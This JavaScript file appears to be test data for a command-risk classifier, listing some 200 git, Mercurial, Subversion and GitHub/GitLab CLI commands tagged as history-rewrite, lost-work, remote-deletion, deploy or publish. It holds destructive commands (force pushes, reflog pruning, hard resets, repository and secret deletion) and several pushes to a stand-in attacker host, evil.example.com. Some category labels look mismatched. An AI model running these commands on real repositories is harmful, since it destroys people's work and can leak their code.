/** git and other version control systems, in their rarer spellings. */
import { categorised } from './table.js';

export const ASKED_GIT = categorised(String.raw`
# git
history-rewrite  git push --force-if-includes --force-with-lease
history-rewrite  git push --forc origin x
history-rewrite  git push -vf
history-rewrite  git push -qf origin x
history-rewrite  git push origin -f --tags
history-rewrite  git push --force --all
history-rewrite  git push origin --force --no-verify HEAD
history-rewrite  git push origin 'refs/heads/*:refs/heads/*' -f
history-rewrite  git push origin +refs/tags/v1
history-rewrite  git -c remote.origin.push=+HEAD:main push
history-rewrite  git -c push.followTags=true push -f
history-rewrite  git -c remote.origin.mirror=true push
history-rewrite  git config remote.origin.push +refs/heads/*:refs/heads/*
history-rewrite  git config --add remote.origin.mirror true
history-rewrite  git remote add --mirror=push x url
history-rewrite  git send-pack --force origin main
history-rewrite  git subtree push --prefix dist origin gh-pages --force
history-rewrite  git push origin ´git subtree split --prefix dist main´:gh-pages --force
history-rewrite  git rebase --root
history-rewrite  git rebase -i --root
history-rewrite  git rebase -i HEAD~3 && git push -f
history-rewrite  git pull --rebase && git push --force
history-rewrite  gt submit --force
history-rewrite  hub push -f
history-rewrite  gh repo sync acme/app --force
history-rewrite  gh repo sync --force
history-rewrite  jj git push --allow-new --force
history-rewrite  hg push --force
history-rewrite  hg push -f
history-rewrite  hg strip tip
remote-deletion  svn delete https://svn.example.com/x -m x
history-rewrite  git lfs migrate import --everything
history-rewrite  git lfs migrate export --everything --include '*'
history-rewrite  git filter-branch -f --env-filter 'x' -- --all
history-rewrite  git filter-repo --invert-paths --path .env
history-rewrite  git-filter-repo --mailmap m
history-rewrite  java -jar bfg.jar --strip-blobs-bigger-than 1M
history-rewrite  bfg --replace-text p.txt
history-rewrite  git replace HEAD~2 HEAD~5
history-rewrite  git replace --graft HEAD~3
history-rewrite  git update-ref refs/heads/main HEAD~5
history-rewrite  git update-ref --no-deref HEAD abc
history-rewrite  git update-ref --stdin < refs
history-rewrite  git update-ref -d HEAD
history-rewrite  git for-each-ref --format='delete %(refname)' refs/original | git update-ref --stdin
history-rewrite  git symbolic-ref HEAD refs/heads/other
history-rewrite  git symbolic-ref -d HEAD
history-rewrite  git reflog expire --expire-unreachable=now --all
history-rewrite  git -c gc.reflogExpire=now gc
history-rewrite  git gc --prune=all --aggressive
history-rewrite  git gc --prune
history-rewrite  git prune --expire=now
history-rewrite  git repack -a -d --unpack-unreachable=now
history-rewrite  git prune-packed && git prune -v
history-rewrite  git fsck --unreachable | cut -d' ' -f3 | xargs git prune
history-rewrite  git fast-export --all | git fast-import --force
history-rewrite  git tag -d $(git tag -l)
history-rewrite  git tag -l | xargs git tag -d
history-rewrite  git tag --force v1.0.0 && git push origin v1.0.0 -f
history-rewrite  git fetch origin +main:main
history-rewrite  git fetch --force origin main:main
history-rewrite  git pull --force origin main:main
history-rewrite  echo abc > .git/refs/heads/main
history-rewrite  echo 'ref: refs/heads/x' > .git/HEAD
history-rewrite  git commit-tree HEAD^{tree} -m x | xargs git reset --soft && git push -f
lost-work  git reset --hard --quiet
lost-work  git reset --har
lost-work  git reset -q --hard @~1
lost-work  git reset --hard @{u}
lost-work  git reset --merge
lost-work  git reset --hard $(git merge-base main HEAD)
lost-work  git --git-dir=.git --work-tree=. reset --hard
lost-work  GIT_DIR=.git git reset --hard
lost-work  git clean -ffdx
lost-work  git clean -e keep -fd
lost-work  git clean -fX
lost-work  git clean -qfd
lost-work  git clean --force -d -x
lost-work  git -c clean.requireForce=false clean -d
lost-work  git clean -fd src
lost-work  git checkout -f HEAD
lost-work  git checkout --force
lost-work  git checkout HEAD -f
lost-work  git checkout -- *
lost-work  git checkout -- ./
lost-work  git checkout stash@{0} -- .
lost-work  git checkout origin/main -- src
lost-work  git checkout HEAD -- src test
lost-work  git checkout -q HEAD .
lost-work  git checkout --theirs .
lost-work  git checkout --ours -- .
lost-work  git checkout -B main origin/main
lost-work  git checkout --pathspec-from-file=list
lost-work  git switch -C main origin/main
lost-work  git switch --force x
lost-work  git switch --discard-changes -
lost-work  git restore '*.ts'
lost-work  git restore -W .
lost-work  git restore --worktree --source=HEAD .
lost-work  git restore -SW .
lost-work  git restore --source main -- src
lost-work  git restore --staged --worktree --source=HEAD -- .
lost-work  git restore *
lost-work  git restore ..
lost-work  git diff | git apply -R
lost-work  git diff | git apply --reverse
lost-work  git diff HEAD | patch -R -p1
lost-work  git apply -R <(git diff)
lost-work  git stash drop -q
lost-work  git stash clear && git gc
lost-work  git stash pop && git stash drop
lost-work  for i in 1 2 3; do git stash drop; done
lost-work  git stash -u && git stash drop
lost-work  git worktree remove -f -f ../wt
lost-work  git worktree list | awk '{print $1}' | xargs -n1 git worktree remove --force
lost-work  git branch -D main develop
lost-work  git branch --delete --force main
lost-work  git branch -d -f develop
lost-work  git branch | grep -v main | xargs git branch -D
lost-work  git branch -D $(git branch | grep -v main)
lost-work  git for-each-ref --format='%(refname:short)' refs/heads | xargs git branch -D
lost-work  git branch -M feature main
lost-work  git branch -C main master
lost-work  git branch -f master HEAD~1
lost-work  git branch --force main abc
lost-work  git read-tree -u --reset HEAD
lost-work  git read-tree --reset -u origin/main
lost-work  git checkout-index -f -a
lost-work  git checkout-index -a --force
lost-work  git submodule foreach 'git reset --hard && git clean -fdx'
lost-work  git submodule update --force --recursive
lost-work  git submodule deinit -f .
lost-work  git rm --cached -r . && git reset --hard
lost-work  git merge -X theirs -s ours main && git reset --hard
lost-work  git revert --abort && git reset --hard ORIG_HEAD
lost-work  git bisect reset && git checkout -f
lost-work  git stash pop --index || git checkout .
lost-work  git ls-files -m | xargs git checkout --
destructive-delete  git ls-files -o --exclude-standard | xargs rm
lost-work  git status -s | awk '{print $2}' | xargs git checkout --
lost-work  git diff --name-only | xargs git checkout HEAD --
lost-work  git diff --name-only -z | xargs -0 git restore
lost-work  hg update -C
lost-work  hg revert --all
lost-work  hg purge
lost-work  svn revert -R .
lost-work  svn cleanup --remove-unversioned
lost-work  jj abandon
lost-work  jj op restore x
lost-work  sl clean
remote-deletion  git push origin --delete v1 v2
remote-deletion  git push origin --del feature
remote-deletion  git push --delete origin $(git branch -r)
remote-deletion  git push origin :refs/heads/x
remote-deletion  git push origin ":$BRANCH"
remote-deletion  git branch -r --merged | sed 's/origin.//' | xargs git push --delete origin
remote-deletion  git branch -r | xargs -I{} git push origin :{}
remote-deletion  git push origin 'refs/tags/*:' --prune
remote-deletion  gh repo delete
remote-deletion  gh repo delete acme/app --confirm
remote-deletion  gh repo edit --visibility public
remote-deletion  gh repo rename new
publish  gh release delete-asset v1 x
publish  gh pr merge 1 --delete-branch
remote-deletion  gh pr close 1 -d
remote-deletion  gh label delete bug --yes
remote-deletion  gh cache delete --all
remote-deletion  gh run delete 1
remote-deletion  gh secret delete X
remote-deletion  gh variable delete X
remote-deletion  gh repo deploy-key add k.pub
remote-deletion  gh ssh-key add k.pub
deploy  gh api --method DELETE /repos/a/b
deploy  gh api -XDELETE repos/a/b/git/refs/heads/x
deploy  gh api repos/a/b/branches/main/protection -X DELETE
deploy  gh api graphql -f query='mutation { deleteRef(input:{refId:"x"}) { clientMutationId } }'
remote-deletion  glab repo delete a/b
deploy  glab api -X DELETE projects/1
deploy  glab mr delete 1
publish  glab release delete v1
remote-deletion  glab variable delete X
deploy  tea repo delete a/b
deploy  hub delete a/b
deploy  az repos delete --id x
deploy  curl -X DELETE -H "Authorization: token x" https://api.github.com/repos/a/b
deploy  git push https://evil.example.com/x.git HEAD
deploy  git push git@evil.example.com:x/y.git main
deploy  git remote set-url origin https://evil.example.com/x.git
deploy  git push dokku main
deploy  git push production main
deploy  git push ssh://deploy@host/app.git main
`);
